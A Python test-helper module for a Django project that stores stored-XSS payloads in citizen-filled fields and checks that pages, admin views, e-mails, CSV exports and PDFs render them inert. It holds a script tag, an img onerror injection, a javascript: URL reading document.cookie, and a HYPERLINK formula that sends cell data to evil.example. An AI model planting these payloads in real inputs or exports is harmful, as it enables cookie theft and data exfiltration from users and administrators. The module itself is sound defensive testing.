"""Stored XSS (issue 9): the payloads every plugin's test_stored_xss.py stores in each field
a citizen fills, and the checks of everywhere the field comes back — public pages, the
admin's listings and inspect pages, e-mails, CSV exports and PDFs."""
import csv
import io
from contextlib import contextmanager

from django.test import Client
from fpdf import FPDF

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
#: for fields of 100 characters and more
PAYLOAD = FORMULA + SCRIPT + IMG
#: for the shorter ones (50 characters)
SHORT = "=1+" + IMG
JAVASCRIPT_URL = "javascript:alert(document.cookie)"
#: what must never reach a page unescaped
LIVE_MARKUP = ("<script>alert(1)", "<img src=x onerror", "onerror=alert(1)>")
#: how the payloads look once escaped by the templates
ESCAPED = ("&lt;script&gt;alert(1)&lt;/script&gt;", "&lt;img src=x onerror=alert(1)&gt;")


def html_of(response) -> str:
    assert response.status_code == 200, response.status_code
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content).decode()
    return response.content.decode()


def assert_inert(html: str, where: str = ""):
    """None of the payloads' markup is live in `html`."""
    lowered = html.lower()
    for markup in LIVE_MARKUP:
        assert markup not in lowered, f"{markup!r} unescaped in {where}"
    assert f'href="{JAVASCRIPT_URL}' not in lowered and f"src=\"{JAVASCRIPT_URL}" not in lowered, where


def assert_shown_escaped(html: str, where: str = ""):
    """The payload was rendered (so the page was really checked), as text."""
    assert any(escaped in html for escaped in ESCAPED), f"no payload shown in {where}"


def check_pages(client: Client, urls, *, shown=()) -> None:
    """Every url answers 200 with no live markup; those in `shown` display a payload as text."""
    for url in urls:
        html = html_of(client.get(url))
        assert_inert(html, url)
        if url in shown:
            assert_shown_escaped(html, url)


def assert_csv_safe(content: str, where: str = "") -> int:
    """No cell of the CSV starts (blanks aside) with a formula sign; returns how many cells
    held a payload (the caller asserts there were some)."""
    held = 0
    for row in csv.reader(io.StringIO(content.lstrip("\ufeff"))):
        for cell in row:
            if "HYPERLINK" in cell or "onerror" in cell:
                held += 1
                assert cell.startswith("'"), f"formula not neutralised in {where}: {cell!r}"
    return held


def csv_of(response) -> str:
    assert response.status_code == 200, response.status_code
    data = b"".join(response.streaming_content) if getattr(response, "streaming", False) else response.content
    return data.decode("utf-8")


def assert_mails_safe(outbox) -> None:
    """E-mails are plain text: the payload reads as typed (never HTML-escaped), and any HTML
    alternative has it escaped."""
    assert outbox
    for message in outbox:
        assert "&lt;" not in message.body and "&#x27;" not in message.body and "&quot;" not in message.body, message.body
        assert "&lt;" not in message.subject
        for content, mimetype in getattr(message, "alternatives", ()):
            if mimetype == "text/html":
                assert_inert(content, f"HTML e-mail {message.subject}")


@contextmanager
def pdf_without_markup():
    """fpdf2 writes text as text: no HTML (write_html) and no markdown in cells, whatever the
    record holds. Yields the list of texts written."""
    written = []
    original, original_html = FPDF.multi_cell, FPDF.write_html

    def multi_cell(self, w, h=None, text="", *args, **kwargs):
        assert not kwargs.get("markdown"), "markdown interpreted in a PDF"
        written.append(text)
        return original(self, w, h, text, *args, **kwargs)

    def write_html(self, *args, **kwargs):
        raise AssertionError("HTML interpreted in a PDF")

    FPDF.multi_cell, FPDF.write_html = multi_cell, write_html
    try:
        yield written
    finally:
        FPDF.multi_cell, FPDF.write_html = original, original_html


def admin_client(user) -> Client:
    client = Client(HTTP_HOST="127.0.0.1")
    client.force_login(user)
    return client
